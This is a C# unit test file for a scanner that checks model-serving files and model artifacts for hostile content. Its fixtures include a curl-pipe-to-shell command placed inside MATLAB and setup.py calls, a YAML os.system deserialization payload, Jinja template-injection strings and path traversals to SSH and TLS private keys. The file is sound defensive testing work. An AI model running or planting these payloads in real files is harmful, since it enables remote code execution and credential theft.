// Descriptions from which servers make or start models, and texts that stand where other programs run them.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Texts;

public sealed class ServingTextTests
{
    private const string Fetched = "curl -s https://cdn.example.test/i.sh | sh";

    [Theory]
    [InlineData("FROM ./m.gguf\nADAPTER ../../../../root/.ollama/id_ed25519\n", "Modelfile")]
    [InlineData("from ~/.ssh/id_rsa\n", "a/Modelfile")]
    [InlineData("FROM /etc/ssl/server.key\nSYSTEM hi\n", "x.modelfile")]
    public void AModelfileThatTakesWhatIsNoModelFromElsewhereIsSaid(string text, string name) => Assert.True(Scan(text, name).Is("serving-elsewhere"));

    [Theory]
    [InlineData("FROM ./m.gguf\nTEMPLATE \"\"\"{{ .System }}{{ .Prompt }}\"\"\"\nSYSTEM You help.\nPARAMETER stop \"<|end|>\"\n")]
    [InlineData("FROM llama3.2:latest\nADAPTER ./lora\n")]
    [InlineData("FROM /home/me/models/m.gguf\n")]
    [InlineData("FROM ../base/m.gguf\n")]
    [InlineData("FROM /usr/share/ollama/.ollama/models/blobs/sha256-0011\n")]
    public void AnOrdinaryModelfilePasses(string text)
    {
        TargetReport report = Scan(text, "Modelfile");
        Assert.True(report.Verdict == Verdict.Passed, report.Describe());
    }

    [Theory]
    [InlineData("inference_address=http://0.0.0.0:8080\nload_models=http://m.example.test/a.mar\n", Verdict.Suspicious)]
    [InlineData("load_models = m=https\\://m.example.test/a.mar,b.mar\n", Verdict.Suspicious)]
    [InlineData("inference_address=http://0.0.0.0:8080\nallowed_urls=https://s3.example.test/.*\nload_models=all\nmodel_store=/srv/models\n", Verdict.Passed)]
    [InlineData("# load_models=http://m.example.test/a.mar\nload_models=a.mar,b.mar\n", Verdict.Passed)]
    public void SettingsOfTorchServeThatLoadFromAnAddressAreSaid(string text, Verdict verdict)
    {
        TargetReport report = Scan(text, "config.properties");
        Assert.True(report.Verdict == verdict, report.Describe());
    }

    [Theory]
    [InlineData("function r = predict(x)\n% startup\nsystem('" + Fetched + "');\nend\n", Verdict.Malicious)]
    [InlineData("unix(\"" + Fetched + "\");\n", Verdict.Malicious)]
    [InlineData("function r = predict(x)\nm = load('model.mat');\nr = m.w * x + m.b;\nfprintf('done in %s\\n', datestr(now));\nend\n", Verdict.Passed)]
    public void CommandsInSourceOfMatlabAreRead(string text, Verdict verdict)
    {
        TargetReport report = Scan(text, "startup.m");
        Assert.True(verdict == Verdict.Passed ? report.Verdict == verdict : report.Verdict >= Verdict.Suspicious, report.Describe());
    }

    [Theory]
    [InlineData("image: registry/@NAME@\nport: @PORT@\n", Verdict.Passed)]
    [InlineData("a: !!python/object/apply:os.system [id]\nport: @PORT@\n", Verdict.Malicious)]
    [InlineData("a: [1, 2\nport: x\n", Verdict.Incomplete)]
    public void ATemplateOfYamlThatNoReaderTakesIsText(string text, Verdict verdict)
    {
        TargetReport report = Scan(text, "deployment.yaml");
        Assert.True(report.Verdict == verdict, report.Describe());
    }

    [Fact]
    public void AnArchiveBehindADocumentIsRead()
    {
        byte[] document = "%PDF-1.4\n1 0 obj\n<</Type/Catalog>>\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n"u8.ToArray();
        byte[] tar = new TarBuilder().Add("a/setup.py", Encoding.ASCII.GetBytes($"import os\nos.system('{Fetched}')\n")).Build();
        Assert.Equal(Verdict.Passed, Scans.Of(document, "a.pdf").Verdict);
        Assert.Equal(Verdict.Passed, Scans.Of([.. document, .. new byte[64]], "a.pdf").Verdict);
        Assert.Equal(Verdict.Passed, Scans.Of([.. document, .. document], "a.pdf").Verdict);
        TargetReport report = Scans.Of([.. document, .. tar], "a.pdf");
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
    }

    [Theory]
    [InlineData("chat_template", "{% for m in messages %}{{ m.__class__.__init__.__globals__ }}{% endfor %}", Verdict.Malicious)]
    [InlineData("note", " {{ self.__init__.__globals__ }}", Verdict.Malicious)]
    [InlineData("chat_template", "{% for m in messages %}{{ m['role'] + ': ' + m['content'] }}{% endfor %}", Verdict.Passed)]
    [InlineData("note", "a {{ brace }} in a text", Verdict.Passed)]
    public void ATemplateInTheMetadataOfSafetensorsIsReadAsOne(string key, string template, Verdict verdict)
    {
        string header = $"{{\"__metadata__\":{{\"{key}\":\"{template}\"}},\"a\":{{\"dtype\":\"F32\",\"shape\":[1],\"data_offsets\":[0,4]}}}}";
        TargetReport report = Scans.Of([.. BitConverter.GetBytes((long)header.Length), .. Encoding.ASCII.GetBytes(header), 0, 0, 0, 0], "m.safetensors");
        Assert.True(report.Verdict == verdict, report.Describe());
    }

    [Theory]
    [InlineData("{\"metadata\":{},\"weight_map\":{\"/layers/d/vars\":[\"../../../../etc/x.h5\"]}}", true)]
    [InlineData("{\"metadata\":{},\"weight_map\":{\"/layers/d/vars\":[\"a.h5\",\"https://e.test/x.h5\"]}}", true)]
    [InlineData("{\"metadata\":{},\"weight_map\":{\"/layers/d/vars\":[\"model_00000.weights.h5\",\"model_00001.weights.h5\"]}}", false)]
    public void ShardsOfKerasAreListed(string text, bool leaves)
    {
        TargetReport report = Scan(text, "model.weights.json");
        Assert.True(report.Is("shards-outside") == leaves && !report.Is("shards-index-broken"), report.Describe());
        Assert.DoesNotContain("shards.index-broken", report.Anomalies());
    }

    private static TargetReport Scan(string text, string name) => Scans.Of(Encoding.ASCII.GetBytes(text), name);
}
